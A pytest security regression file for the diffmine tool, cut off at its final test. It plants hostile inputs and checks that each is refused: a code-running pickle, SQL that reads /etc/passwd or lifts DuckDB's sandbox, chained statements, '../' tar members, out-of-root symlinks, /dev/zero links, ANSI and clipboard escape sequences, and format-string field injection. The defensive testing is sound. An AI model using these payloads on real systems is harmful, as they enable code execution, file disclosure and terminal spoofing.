"""Untrusted runs and inputs: checkpoints are never unpickled, SQL stays inside the run's tables,
datasets cannot point listing or decoding outside their root or at huge members, and the CLI
reports failures as one line."""

import argparse
import contextlib
import dataclasses
import errno
import io
import json
import os
import pathlib
import pickle
import re
import shutil
import signal
import tarfile

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import torch
from PIL import Image

from diffmine import data, pipeline
from diffmine.cli import main
from diffmine.data import BadImage, load_image, scan_dataset
from diffmine.models import create_backend
from diffmine.models.base import read_weights
from diffmine.query import QueryError, query
from diffmine.rundir import Run, RunError
from diffmine.synthetic import SynthConfig, generate
from diffmine.train import TrainConfig, train

SMALL = dict(block_out_channels=(16, 32, 32), cross_attention_dim=16, attention_head_dim=4, prompt_tokens=2)


# --------------------------------------------------------------------------------------------
# checkpoints


class _TouchOnUnpickle:
    """A pickle that creates ``marker`` when loaded, as a hostile optimizer.pt would run code."""

    def __init__(self, marker):
        self.marker = pathlib.Path(marker)

    def __reduce__(self):
        return pathlib.Path.touch, (self.marker,)


@pytest.fixture(scope="module")
def tiny_images(tmp_path_factory):
    return generate(tmp_path_factory.mktemp("images"), SynthConfig(labels=2, per_label=4, size=32, seed=0), progress=False)


def _run(path, images):
    run = Run(path)
    pipeline.prepare(run, images, "A scene from {label}.", "A scene.", 32)
    return run


def _train(run, config):
    prompts = [run.prompt(label) for label in run.labels] + [run.prompt(None)]
    return train(run, create_backend("tiny", prompts, seed=0, **SMALL), config, progress=False)


def test_resume_never_unpickles_a_planted_optimizer_pt(tiny_images, tmp_path, capsys):
    config = TrainConfig(steps=4, batch_size=4, checkpoint_every=2, seed=0, ema_decay=0.9)
    run = _run(tmp_path / "run", tiny_images)
    _train(run, dataclasses.replace(config, steps=2))
    checkpoint = run.model_dir / "checkpoints" / "step-0000002"
    assert (checkpoint / "state.json").is_file()
    assert not (checkpoint / "optimizer.pt").exists()  # nothing pickled is written
    structure = json.loads((checkpoint / "optimizer.json").read_text())
    assert {k for k, _ in structure["dict"]} == {"optimizer", "scheduler", "ema"}
    marker = tmp_path / "MARKER"
    payload = pickle.dumps(_TouchOnUnpickle(marker))
    (checkpoint / "optimizer.pt").write_bytes(payload)
    capsys.readouterr()
    _train(run, config)
    assert not marker.exists()
    assert f"resuming from {checkpoint} (step 2)" in capsys.readouterr().out
    assert json.loads((run.model_dir / "checkpoints" / "step-0000004" / "state.json").read_text()) == {"step": 4}
    # resumed, not restarted: the weights equal an uninterrupted run's, EMA included
    straight = _run(tmp_path / "straight", tiny_images)
    _train(straight, config)
    a, b = read_weights(run.model_dir / "trainable.safetensors"), read_weights(straight.model_dir / "trainable.safetensors")
    assert a.keys() == b.keys() and all(torch.equal(a[k], b[k]) for k in a)
    # and the planted file was a live payload: loading it is what would have run it
    pickle.loads(payload)
    assert marker.exists()


def test_old_pickled_checkpoint_is_refused_not_loaded(tiny_images, tmp_path):
    run = _run(tmp_path / "run", tiny_images)
    _train(run, TrainConfig(steps=2, batch_size=4, checkpoint_every=2, seed=0))
    checkpoint = run.model_dir / "checkpoints" / "step-0000002"
    (checkpoint / "optimizer.json").unlink()
    (checkpoint / "optimizer.safetensors").unlink()
    marker = tmp_path / "MARKER"
    (checkpoint / "optimizer.pt").write_bytes(pickle.dumps(_TouchOnUnpickle(marker)))
    with pytest.raises(RunError, match="optimizer.pt.*not loaded.*train from scratch"):
        _train(run, TrainConfig(steps=4, batch_size=4, checkpoint_every=2, seed=0))
    assert not marker.exists()


# --------------------------------------------------------------------------------------------
# query


@pytest.fixture
def table_run(tmp_path):
    run = Run(tmp_path / "run")
    run.path.mkdir()
    pq.write_table(pa.table({"image_id": ["a/0.png", "b/0.png", "b/1.png"], "label": ["a", "b", "b"]}), run.path / "images.parquet")
    (run.path / "config.json").write_text('{"dataset": {}}')
    return run


def test_query_reads_the_run_tables(table_run):
    assert query(table_run, "SELECT count(*) AS n FROM images")["n"].tolist() == [3]
    counts = query(table_run, "SELECT label, count(*) AS n FROM images GROUP BY label ORDER BY label")
    assert counts.to_dict("list") == {"label": ["a", "b"], "n": [1, 2]}


def test_query_serves_an_empty_problems_table_when_nothing_was_skipped(table_run):
    assert query(table_run, "SELECT count(*) AS n FROM problems")["n"].tolist() == [0]
    assert query(table_run, "SELECT image_id, problem FROM problems WHERE step = 'listing'").empty
    # its columns are text, empty or not (they were typed NULL: `... UNION ALL SELECT 1` gave integers)
    types = query(table_run, "SELECT column_type FROM (DESCRIBE problems)")["column_type"].tolist()
    assert types == ["VARCHAR"] * 4
    table_run.record_problems("listing", [])
    assert query(table_run, "SELECT column_type FROM (DESCRIBE problems)")["column_type"].tolist() == ["VARCHAR"] * 4


def test_query_cannot_read_other_files(table_run, tmp_path):
    secret = tmp_path / "secret.csv"
    secret.write_text("x\n42\n")
    for sql in (f"SELECT * FROM read_csv('{secret}')", "SELECT * FROM read_csv('/etc/passwd')",
                f"SELECT * FROM '{secret}'", f"SELECT * FROM read_parquet('{table_run.path / 'images.parquet'}')",
                f"ATTACH '{tmp_path / 'x.db'}'", "SELECT * FROM glob('/*')"):
        with pytest.raises(QueryError, match="^query: "):
            query(table_run, sql)
    assert not (tmp_path / "x.db").exists()


def test_query_cannot_write_files(table_run):
    config_path = table_run.path / "config.json"
    config = config_path.read_bytes()
    images = (table_run.path / "images.parquet").read_bytes()
    for sql in (f"COPY images TO '{config_path}'",
                f"COPY (SELECT 1 AS x) TO '{table_run.path / 'images.parquet'}' (FORMAT parquet, USE_TMP_FILE false)",
                f"COPY images TO '{table_run.path / 'new.csv'}'", f"EXPORT DATABASE '{table_run.path / 'export'}'"):
        with pytest.raises(QueryError, match="query: .*disabled by configuration"):
            query(table_run, sql)
    assert config_path.read_bytes() == config
    assert (table_run.path / "images.parquet").read_bytes() == images
    assert sorted(p.name for p in table_run.path.iterdir()) == ["config.json", "images.parquet"]


def test_query_cannot_lift_the_sandbox(table_run):
    for sql in ("SET enable_external_access = true", "RESET enable_external_access", "SET lock_configuration = false",
                "SET allowed_directories = ['/']", "SET python_enable_replacements = true"):
        with pytest.raises(QueryError, match="locked"):
            query(table_run, sql)
    with pytest.raises(QueryError):
        query(table_run, "LOAD httpfs")


def test_query_refuses_several_statements_running_none(table_run):
    """DuckDB ran them all and returned the last one's result: `SELECT 1; SELECT 2` showed 2 alone."""
    config_path = table_run.path / "config.json"
    config = config_path.read_bytes()
    for sql in ("SELECT 1 AS a; SELECT 2 AS b", "SELECT label FROM images; SELECT 'x;y' AS z;",
                # a harmless first statement lets no second one through
                f"SELECT 1 AS a; COPY images TO '{config_path}'",
                "SELECT 1 AS a; SET enable_external_access = true; SELECT * FROM read_csv('/etc/passwd')"):
        with pytest.raises(QueryError, match=r"^query: [23] SQL statements given; query runs one"):
            query(table_run, sql)
    assert config_path.read_bytes() == config
    # one statement, whatever ';' it holds in a literal or at its end
    assert query(table_run, "SELECT ';' AS a, count(*) AS n FROM images;").to_dict("list") == {"a": [";"], "n": [3]}


def test_bad_sql_is_one_line_from_the_cli(table_run, capsys):
    assert main(["query", "--run", str(table_run.path), "SELEC * FROM images"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("diffmine query: error: query: Parser Error")
    assert main(["query", "--run", str(table_run.path), "SELECT * FROM read_csv('/etc/passwd')"]) == 2
    assert "disabled by configuration" in capsys.readouterr().err
    assert main(["query", "--run", str(table_run.path), "SELECT 1; SELECT 2"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("diffmine query: error: query: 2 SQL statements given")


# --------------------------------------------------------------------------------------------
# datasets


def _png_bytes(value=0):
    buffer = io.BytesIO()
    Image.fromarray(np.full((8, 8, 3), value, np.uint8)).save(buffer, format="PNG")
    return buffer.getvalue()


def _add(tar, name, payload):
    info = tarfile.TarInfo(name)
    info.size = len(payload)
    tar.addfile(info, io.BytesIO(payload))


def _shard(path, members):
    with tarfile.open(path, "w") as tar:
        for name, payload in members:
            _add(tar, name, payload)
    return path


def _good_samples():
    return [("a/0.png", _png_bytes(1)), ("a/0.cls", b"cat"), ("b/0.png", _png_bytes(2)), ("b/0.cls", b"dog")]


def test_oversized_tar_label_is_a_problem_not_read(tmp_path, monkeypatch):
    shard = _shard(tmp_path / "s.tar", _good_samples() + [("c/0.png", _png_bytes(3)), ("c/0.txt", b"x" * (100 << 10))])
    read = []
    monkeypatch.setattr(data, "_label_text", lambda extension, payload: read.append(len(payload)) or payload.decode().strip())
    ds = scan_dataset(shard)
    assert ds.image_ids == ["s.tar/a/0.png", "s.tar/b/0.png"]
    problems = {p.image_id: p.problem for p in ds.problems}
    assert problems["s.tar/c/0.png"] == "label member c/0.txt is 102400 bytes, over the 64 KiB cap (not read)"
    assert max(read) == 3  # the big member never reached the decoder


def test_label_cap_is_the_module_constant(tmp_path, monkeypatch):
    shard = _shard(tmp_path / "s.tar", _good_samples() + [("c/0.png", _png_bytes(3)), ("c/0.cls", b"bird")])
    monkeypatch.setattr(data, "MAX_LABEL_BYTES", 3)
    problems = {p.image_id: p.problem for p in scan_dataset(shard).problems}
    assert "c/0.cls is 4 bytes, over the 3 bytes cap" in problems["s.tar/c/0.png"]


def test_oversized_tar_image_member_is_refused_unread(tmp_path, monkeypatch):
    shard = _shard(tmp_path / "s.tar", _good_samples())
    ds = scan_dataset(shard)
    assert load_image(ds.paths[0], 8).shape == (8, 8, 3)
    monkeypatch.setattr(data, "MAX_FILE_BYTES", 64)
    monkeypatch.setattr(tarfile.TarFile, "extractfile", lambda *a, **k: pytest.fail("member read"))
    with pytest.raises(BadImage, match=r"member is \d+ bytes, over the 64 bytes cap"):
        load_image(ds.paths[0], 8)


def test_oversized_arrow_image_is_refused_uncopied(tmp_path, monkeypatch):
    path = tmp_path / "data-00000-of-00001.arrow"
    image = pa.struct([("bytes", pa.binary()), ("path", pa.string())])
    table = pa.table({"image": pa.array([{"bytes": _png_bytes(5), "path": None}, None], image)})
    with pa.OSFile(str(path), "wb") as sink, pa.ipc.new_stream(sink, table.schema) as writer:
        writer.write_table(table)
    assert load_image(f"{path}#image/0", 8)[0, 0].tolist() == [5, 5, 5]
    with pytest.raises(BadImage, match="no image bytes"):
        load_image(f"{path}#image/1", 8)
    monkeypatch.setattr(data, "MAX_FILE_BYTES", 16)
    with pytest.raises(BadImage, match=r"stored image is \d+ bytes, over the 16 bytes cap"):
        load_image(f"{path}#image/0", 8)


def test_oversized_image_file_is_refused_unread(tmp_path, monkeypatch):
    path = tmp_path / "big.png"
    path.write_bytes(_png_bytes() + b"\0" * 2048)
    monkeypatch.setattr(data, "MAX_FILE_BYTES", 1024)
    monkeypatch.setattr(data.Image, "open", lambda *a, **k: pytest.fail("file opened"))
    with pytest.raises(BadImage, match=r"big.png: file is \d+ bytes, over the 1 KiB cap"):
        load_image(path, 8)


def test_declared_huge_label_member_is_skipped_from_its_header(tmp_path):
    # the last member's header says 2 GiB; its data is a hole in a sparse file, never written
    path = tmp_path / "s.tar"
    with path.open("wb") as f:
        for name, payload in _good_samples() + [("c/0.png", _png_bytes(3))]:
            info = tarfile.TarInfo(name)
            info.size = len(payload)
            f.write(info.tobuf() + payload + b"\0" * (-len(payload) % 512))
        info = tarfile.TarInfo("c/0.txt")
        info.size = 2 << 30
        f.write(info.tobuf())
        f.truncate(f.tell() + info.size + 1024)  # data, then the two zero blocks that end a tar
    problems = {p.image_id: p.problem for p in scan_dataset(path).problems}
    assert problems["s.tar/c/0.png"] == "label member c/0.txt is 2147483648 bytes, over the 64 KiB cap (not read)"


@pytest.mark.parametrize("name", ["../evil.png", "a/../../evil.png", "/abs/evil.png", "a/../b/1.png"])
def test_tar_member_escaping_its_shard_is_refused(tmp_path, name):
    shard = _shard(tmp_path / "s.tar", _good_samples() + [(name, _png_bytes(3)), (name.rsplit(".", 1)[0] + ".cls", b"cat")])
    ds = scan_dataset(shard)
    assert ds.image_ids == ["s.tar/a/0.png", "s.tar/b/0.png"]
    problems = [p for p in ds.problems if p.image_id == f"s.tar/{name}"]
    assert len(problems) == 1
    assert problems[0].problem == f"tar member {name!r} of s.tar has an absolute path or a '..' component (refused)"
    assert problems[0].path == f"{shard}#{name}"


def _png(path, value=0):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(_png_bytes(value))


@pytest.fixture
def tree(tmp_path):
    """root/{a,b}/0.png and a folder outside the root with one image."""
    root = tmp_path / "root"
    _png(root / "a" / "0.png")
    _png(root / "b" / "0.png")
    _png(tmp_path / "outside" / "secret.png", 9)
    return root


def test_folder_symlink_inside_root_is_listed(tree):
    os.symlink(tree / "b" / "0.png", tree / "a" / "alias.png")
    ds = scan_dataset(tree)
    assert "a/alias.png" in ds.image_ids and not ds.problems


def test_folder_symlinks_out_of_the_root_are_problems(tree):
    outside = tree.parent / "outside"
    os.symlink(outside / "secret.png", tree / "a" / "link.png")
    os.symlink(outside, tree / "a" / "linked_dir")
    os.symlink(outside, tree / "c")  # a whole label folder
    ds = scan_dataset(tree)
    assert sorted(ds.image_ids) == ["a/0.png", "b/0.png"]
    problems = {p.image_id: p.problem for p in ds.problems}
    assert set(problems) == {"a/link.png", "a/linked_dir", "c"}
    assert all(p.startswith("symlink points outside the dataset root") for p in problems.values())
    assert not any("secret" in i for i in ds.image_ids)


def test_manifest_symlinks_out_of_the_root_are_problems(tree):
    outside = tree.parent / "outside"
    os.symlink(outside / "secret.png", tree / "a" / "link.png")
    os.symlink(outside, tree / "ext")
    os.symlink(tree / "b" / "0.png", tree / "a" / "alias.png")
    (tree / "m.csv").write_text("path,label\na/0.png,a\nb/0.png,b\na/link.png,a\next/secret.png,b\na/alias.png,a\n")
    ds = scan_dataset(tree / "m.csv")
    assert ds.image_ids == ["a/0.png", "b/0.png", "a/alias.png"]
    problems = {p.image_id: p.problem for p in ds.problems}
    assert set(problems) == {"a/link.png", "ext/secret.png"}
    assert all("symlink points outside the dataset root" in p for p in problems.values())


# --------------------------------------------------------------------------------------------
# the command line


@pytest.mark.parametrize("how", ["absolute path", "edited root"])
def test_a_received_run_cannot_make_an_export_copy_a_file_it_was_not_made_from(tiny_run, tmp_path, capsys, how):
    """images.parquet and lineage.json are text anyone could have edited: a row that leads to
    another file (/home/me/private.png) is refused with one line, never copied into the export."""
    received = tmp_path / "received"
    shutil.copytree(tiny_run.path, received)
    private = tmp_path / "home" / "private.png"
    _png(private, 7)
    table = pq.read_table(received / "images.parquet").to_pandas()
    target = pq.read_table(received / "clusters" / "patches.parquet").column("image_id")[0].as_py()
    if how == "absolute path":
        table.loc[table["image_id"] == target, "path"] = str(private)
    else:  # every listed path is relative to the root the lineage records: point it elsewhere
        table.loc[table["image_id"] == target, "path"] = "private.png"
        records = json.loads((received / "lineage.json").read_text())
        records["listing"]["settings"]["root"] = str(private.parent)
        (received / "lineage.json").write_text(json.dumps(records))
    pq.write_table(pa.Table.from_pandas(table, preserve_index=False), received / "images.parquet")
    assert Run(received).images().set_index("image_id").loc[target, "path"] == str(private)
    out = tmp_path / "export"
    assert main(["export", "--run", str(received), "--format", "coco", "--out", str(out), "--copy-images"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and f"{private}: changed since `diffmine prepare` listed it" in err
    copied = [np.asarray(Image.open(p)) for p in sorted((out / "images").glob("*.png"))] if (out / "images").is_dir() else []
    assert not any((a == 7).all() for a in copied)


def _disk_full(*args, **kwargs):
    raise OSError(errno.ENOSPC, "No space left on device", "/some/run/lineage.json")


def test_os_error_is_one_line_and_exit_2(tmp_path, capsys, monkeypatch):
    import diffmine.status

    monkeypatch.delenv("DIFFMINE_DEBUG", raising=False)
    monkeypatch.setattr(diffmine.status, "status", _disk_full)
    assert main(["status", "--run", str(tmp_path)]) == 2
    assert capsys.readouterr().err == "diffmine status: error: /some/run/lineage.json: No space left on device\n"


def test_ctrl_c_is_one_line_and_exit_130(tmp_path, capsys, monkeypatch):
    """Ctrl-C printed a traceback through the step's code, ending in KeyboardInterrupt."""
    import diffmine.status

    def interrupted(*_):
        raise KeyboardInterrupt

    monkeypatch.setattr(diffmine.status, "status", interrupted)
    assert main(["status", "--run", str(tmp_path)]) == 130
    err = capsys.readouterr().err
    assert err.startswith("diffmine status: interrupted; run the same command again") and err.count("\n") == 1


def test_debug_lets_the_error_propagate(tmp_path, monkeypatch):
    import diffmine.status

    monkeypatch.setattr(diffmine.status, "status", _disk_full)
    monkeypatch.delenv("DIFFMINE_DEBUG", raising=False)
    with pytest.raises(OSError, match="No space left"):
        main(["--debug", "status", "--run", str(tmp_path)])
    monkeypatch.setenv("DIFFMINE_DEBUG", "1")
    with pytest.raises(OSError, match="No space left"):
        main(["status", "--run", str(tmp_path)])
    with pytest.raises(RunError):  # expected errors too
        main(["mine", "--run", str(tmp_path)])


def test_bugs_still_show_their_traceback(tmp_path, monkeypatch):
    monkeypatch.delenv("DIFFMINE_DEBUG", raising=False)
    import diffmine.status

    monkeypatch.setattr(diffmine.status, "status", lambda run: 1 / 0)
    with pytest.raises(ZeroDivisionError):
        main(["status", "--run", str(tmp_path)])


def test_status_escapes_control_characters_of_labels(tmp_path):
    """A label is a folder name from received data: a newline or an ANSI escape in it must not
    forge a line of `diffmine status` or repaint the terminal."""
    from diffmine import pipeline
    from diffmine.rundir import Run
    from diffmine.status import status
    from diffmine.terminal import printable

    forged = "ok\ntrain: done (9999 steps, model forged)\x1b[2J"
    for label in (forged, "plain"):
        (tmp_path / "data" / label).mkdir(parents=True)
        Image.new("RGB", (8, 8)).save(tmp_path / "data" / label / "0.png")
    run = Run(tmp_path / "run")
    pipeline.prepare(run, tmp_path / "data", "A {label}.", "A thing.", 8)
    text = status(run)
    assert "\x1b" not in text and not any(line.startswith("train: done") for line in text.splitlines())
    assert "ok\\ntrain: done (9999 steps, model forged)\\x1b[2J" in text
    assert printable("Zürich\tx") == "Zürich\\tx"


def test_damaged_run_files_are_one_line_naming_the_file(tmp_path):
    """A run received damaged (a copy cut short, a file edited by hand) fails with one line naming
    the file, never a traceback from the decoder."""
    from diffmine.atomic import read_npy, write_with
    from diffmine.lineage import Lineage, LineageError
    from diffmine.models import ModelError, load_backend
    from diffmine.models.tiny import TinyBackend, TinyConfig

    (tmp_path / "lineage.json").write_text("[]")
    with pytest.raises(LineageError, match="lineage.json: not a lineage record"):
        Lineage(tmp_path).records()
    (tmp_path / "lineage.json").write_text('{"listing": {}}')
    with pytest.raises(LineageError, match="lineage.json: not a lineage record"):
        Lineage(tmp_path).records()
    model = tmp_path / "model"
    model.mkdir()
    (model / "backend.json").write_text("garbage")
    with pytest.raises(ModelError, match="backend.json: not a model description"):
        load_backend(model)
    (model / "backend.json").write_text(json.dumps({"kind": "tiny", "prompts": ["a", "b"], "config": {}}))
    with pytest.raises(ModelError, match="backend.json: not a model description"):
        load_backend(model)
    TinyBackend(["a", "b"], TinyConfig(block_out_channels=(16, 32, 32), cross_attention_dim=16, attention_head_dim=4,
                                       prompt_tokens=2), seed=0).save(model)
    (model / "trainable.safetensors").write_bytes(b"\x10\x00\x00\x00\x00\x00\x00\x00{\"a\":")
    with pytest.raises(ModelError, match="trainable.safetensors: unreadable weights"):
        load_backend(model)
    write_with(tmp_path / "features.npy", lambda f: np.save(f, np.ones((4, 3), np.float32)))
    data = (tmp_path / "features.npy").read_bytes()
    (tmp_path / "features.npy").write_bytes(data[:100])
    with pytest.raises(ValueError, match="features.npy: unreadable array"):
        read_npy(tmp_path / "features.npy")


@pytest.mark.parametrize("damage", ["labels", "root", "resolution", "path column", "no fingerprint column"])
def test_a_damaged_listing_is_one_line_naming_the_file_and_prepare_mends_it(tiny_run, tmp_path, damage, capsys):
    """A received run's listing is two files anyone could have edited: a value of another kind failed
    deep in status or report with a TypeError; a missing column said only "error: fingerprint"."""
    received = tmp_path / "received"
    shutil.copytree(tiny_run.path, received, symlinks=True)
    run = Run(received)
    if damage.endswith("column"):
        listing = pd.read_parquet(run.images_path)
        listing["path"] = range(len(listing))
        listing.to_parquet(run.images_path)
    elif damage.startswith("no"):
        pd.read_parquet(run.images_path).drop(columns="fingerprint").to_parquet(run.images_path)
    else:
        record = json.loads((received / "lineage.json").read_text())
        record["listing"]["settings"][damage] = 5 if damage != "resolution" else "64"
        (received / "lineage.json").write_text(json.dumps(record))
    damaged = f"{received / 'images.parquet'}: not a listing" if damage.endswith("column") else \
        f"{received / 'lineage.json'}: the listing's {damage} is not what diffmine records"
    for command in (["status"], ["export", "--format", "csv", "--out", str(tmp_path / "out")]):
        assert main([*command, "--run", str(received)]) == 2
        assert capsys.readouterr().err.startswith(f"diffmine {command[0]}: error: {damaged}")
    if damage.endswith("column"):  # the record says how it was listed: list it again from there
        assert main(["prepare", "--run", str(received)]) == 0
        assert main(["status", "--run", str(received)]) == 0
        pd.testing.assert_frame_equal(Run(received).images(), tiny_run.images())


@pytest.mark.parametrize("link", ["report", "report/assets"])
def test_a_received_report_folder_that_is_a_link_is_never_written_nor_emptied(tiny_run, tmp_path, capsys, link):
    """cp -r, rsync and tar keep links: a received run's report/ (or a folder in it) may lead to
    the user's own files, and writing the site removes every file there that it did not write."""
    received, home = tmp_path / "received", tmp_path / "home"
    shutil.copytree(tiny_run.path, received, symlinks=True)
    (home / "thesis").mkdir(parents=True)
    (home / "thesis" / "draft.tex").write_text("years of work")
    shutil.rmtree(received / "report")
    (received / link).parent.mkdir(parents=True, exist_ok=True)
    (received / link).symlink_to(os.path.relpath(home, (received / link).parent))  # wherever the run is unpacked
    assert main(["report", "--run", str(received)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and f"{received / link}: leads through a link to {home}" in err
    assert [p.relative_to(home).as_posix() for p in sorted(home.rglob("*"))] == ["thesis", "thesis/draft.tex"]
    assert (home / "thesis" / "draft.tex").read_text() == "years of work"


def _hold_step_lock(run):
    from diffmine.lineage import step_lock

    with step_lock(run.path, "report"):
        pass


@pytest.mark.parametrize("lock, use", [
    (".lineage.lock", lambda run: run.lineage.put("mine", {}, {}, "mine")),
    (".problems.lock", lambda run: run.record_problems("report", [])),
    (".locks/gate.lock", _hold_step_lock), (".locks/report.lock", _hold_step_lock), (".locks", _hold_step_lock)])
def test_a_received_run_lock_file_that_is_a_link_creates_no_file(tmp_path, lock, use):
    """Opening a lock file that is a link to a path that does not exist would create a file there
    (an empty /etc/nologin locks users out): a run's lock files are never opened through a link."""
    from diffmine.lineage import LineageError

    run, elsewhere = Run(tmp_path / "run"), tmp_path / "elsewhere"
    (run.path / ".locks").mkdir(parents=True)
    elsewhere.mkdir()
    link = run.path / lock
    if link.is_dir():
        link.rmdir()
    link.symlink_to(elsewhere if lock == ".locks" else elsewhere / "created")
    with pytest.raises(LineageError, match=f"^{link}: a link, not [^\n]*$"):
        use(run)
    assert list(elsewhere.iterdir()) == []


def test_command_output_escapes_control_characters(table_run, capsys):
    """Labels and query results are untrusted text: an ESC in them must not reach the terminal
    (it clears the screen, sets the title, writes the clipboard), nor a newline forge a table row."""
    from diffmine.classify import format_summary

    assert main(["query", "--run", str(table_run.path), "SELECT chr(27) || '[2J' || label AS label FROM images"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\\x1b[2Ja" in out
    forged = "ok\nb                 9   9\x1b[2J"
    table = format_summary({"labels": [forged, "b"], "confusion": [[1, 0], [0, 1]], "accuracy": 1.0, "images": 2,
                            "chance": 0.5})
    assert "\x1b" not in table and len(table.splitlines()) == 6 and "ok\\nb" in table
    # stderr is left alone (progress bars move the cursor): what it says of a record is escaped there
    from diffmine.mining import MineConfig

    pipeline._check_adaptive_targets({"top": "\x1b]52;c;aGVsbG8=\x07"}, MineConfig())
    assert "\x1b" not in capsys.readouterr().err


def test_a_model_named_by_a_received_record_is_never_a_folder_that_came_with_the_run(tmp_path, monkeypatch):
    """Training records a local base folder by its absolute path, so a name in backend.json or the
    typicality record that is not absolute is a hub id: a folder of that name under the current
    directory (shipped inside a received run, with a .bin to unpickle) must not be loaded instead."""
    from sd_fixtures import build_sd_folder

    from diffmine.models import ModelError, load_backend

    monkeypatch.chdir(tmp_path)
    build_sd_folder(tmp_path / "received" / "base")
    run = Run(tmp_path / "received")
    (run.model_dir).mkdir()
    (run.model_dir / "backend.json").write_text(json.dumps({"kind": "sd", "base": "received/base", "lora_rank": 0,
                                                            "text_encoder": None}))
    with pytest.raises(ModelError, match="backend.json: names the model 'received/base', a hub id, but a folder"):
        load_backend(run.model_dir)
    run.lineage.put("typicality", {"model": "sd:received/base", "model_options": {}}, {}, "typicality")
    with pytest.raises(ModelError, match="lineage.json: names the model 'received/base', a hub id, but a folder"):
        pipeline.scoring_model(run, torch.device("cpu"))


def test_a_received_result_folder_that_is_a_link_is_never_written(tiny_run, tmp_path, capsys):
    """A step writes its result files into its folder (and removes old ones): a received run's
    clusters/ leading to the user's own folder would put patches.parquet there, or replace theirs."""
    received, home = tmp_path / "received", tmp_path / "home"
    shutil.copytree(tiny_run.path, received, symlinks=True)
    home.mkdir()
    (home / "notes.txt").write_text("the user's own notes")
    shutil.rmtree(received / "clusters")
    (received / "clusters").symlink_to("../home")
    assert main(["cluster", "--run", str(received), "--k", "2", "--feature-ensemble", "1", "--force"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and f"{received / 'clusters'}: leads through a link to {home}" in err
    assert [p.name for p in home.iterdir()] == ["notes.txt"]


@pytest.mark.parametrize("shard", ["../secret.safetensors", "/dev/zero"])
def test_a_weights_index_naming_a_file_elsewhere_is_refused_not_read(tmp_path, shard):
    """A model folder's weights index lists its shards: a name leading elsewhere would have the
    fingerprint (relocate, typicality --model) hash another file, or read /dev/zero forever."""
    from diffmine.models import ModelError
    from diffmine.models.sd import fingerprint

    (tmp_path / "secret.safetensors").write_text("not the model's")
    index = tmp_path / "model" / "unet" / "diffusion_pytorch_model.safetensors.index.json"
    index.parent.mkdir(parents=True)
    index.write_text(json.dumps({"metadata": {}, "weight_map": {"conv_in.weight": shard}}))
    (index.parent / "config.json").write_text("{}")
    with pytest.raises(ModelError, match=f"{re.escape(str(index))}: names '{re.escape(shard)}', not a file beside it"):
        fingerprint(tmp_path / "model", ["unet"])


@pytest.mark.parametrize("prompt", ["A {label:>999999999999}.", "A {label.__class__.__mro__[1].__subclasses__}.",
                                    "A {label!r}."])
def test_a_received_prompt_fills_in_nothing_but_the_label(tmp_path, prompt):
    """The listing's prompt is a format string from a file anyone could have edited: a format spec
    built a string of a terabyte (MemoryError), a field name reached into Python's objects."""
    for label in ("a", "b"):
        (tmp_path / "data" / label).mkdir(parents=True)
        Image.new("RGB", (8, 8)).save(tmp_path / "data" / label / "0.png")
    run = Run(tmp_path / "run")
    pipeline.prepare(run, tmp_path / "data", "A {label}.", "A thing.", 8)
    records = json.loads(run.lineage.path.read_text())
    records["listing"]["settings"]["prompt"] = prompt
    run.lineage.path.write_text(json.dumps(records))
    with pytest.raises(RunError, match="lineage.json: the listing's prompt .* is not one diffmine writes"):
        run.prompt("a")
    with pytest.raises(data.DatasetError, match="invalid --prompt"):
        pipeline.prepare(Run(tmp_path / "other"), tmp_path / "data", prompt, "A thing.", 8)


@pytest.mark.parametrize("special", ["device", "pipe"])
def test_a_received_model_file_that_is_no_regular_file_is_refused_not_read_forever(tiny_run, tmp_path, special):
    """The model's identity is a hash of its files: a received run's weights file that is a link to
    /dev/zero was read forever, and a pipe waited forever to be opened."""

    from diffmine.lineage import LineageError

    received = tmp_path / "received"
    shutil.copytree(tiny_run.path, received, symlinks=True)
    weights = received / "model" / "trainable.safetensors"
    weights.unlink()
    weights.symlink_to("/dev/zero") if special == "device" else os.mkfifo(weights)
    with _within(20), pytest.raises(LineageError, match=f"^{re.escape(str(weights))}: not a regular file"):
        pipeline.load_model(Run(received), torch.device("cpu"))


@contextlib.contextmanager
def _within(seconds: int):
    """Fails the test with TimeoutError, rather than hang it, when the block reads forever."""
    def hung(*_):
        raise TimeoutError(f"still reading after {seconds} s")

    previous = signal.signal(signal.SIGALRM, hung)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


@pytest.mark.parametrize("special", ["device", "pipe"])
def test_a_received_image_that_is_no_regular_file_is_a_problem_not_read_forever(tiny_run, tmp_path, special, capsys):
    """An image of a received run linked to /dev/zero was hashed forever (is it still the listed
    one?) by report, export and every view of it, and a pipe waited forever to be opened."""
    from diffmine.images import RunImages

    received = tmp_path / "received"
    shutil.copytree(tiny_run.path, received, symlinks=True)
    run = Run(received)
    shown = run.patches().iloc[0]
    path = tmp_path / "image.png"  # what the received listing names for a shown image
    path.symlink_to("/dev/zero") if special == "device" else os.mkfifo(path)
    listing = pd.read_parquet(run.images_path)
    listing.loc[listing["image_id"] == shown.image_id, "path"] = str(path)
    listing.to_parquet(run.images_path)
    with _within(20):
        images = RunImages(run)
        assert images.get(shown.image_id) is None
        assert "not a regular file" in images.problems[shown.image_id].problem
        assert main(["export", "--run", str(received), "--format", "coco", "--out", str(tmp_path / "out")]) == 2
    assert re.search(f"{re.escape(str(path))}: .*not a regular file.*the export needs every clustered image",
                     capsys.readouterr().err)


def test_a_received_box_outside_its_image_is_drawn_clipped_at_once():
    """Patch boxes are read from a run's tables: a box of 10^9 pixels was drawn for hours."""
    from diffmine.images import crop_in_context, draw_boxes

    image = np.zeros((32, 32, 3), np.uint8)
    with _within(5):
        assert crop_in_context(image, (10**9, 10**9, 2 * 10**9, 2 * 10**9), 48).shape == (48, 48, 3)
        drawn = draw_boxes(image, [(-10**9, -10**9, 10**9, 10**9)], scale=2)
    assert drawn.shape == (64, 64, 3) and drawn[0, 0].any() and drawn[63, 63].any() and not drawn[32, 32].any()


def test_what_a_json_command_prints_beside_its_document_is_printable(tiny_run, tmp_path, capsys):
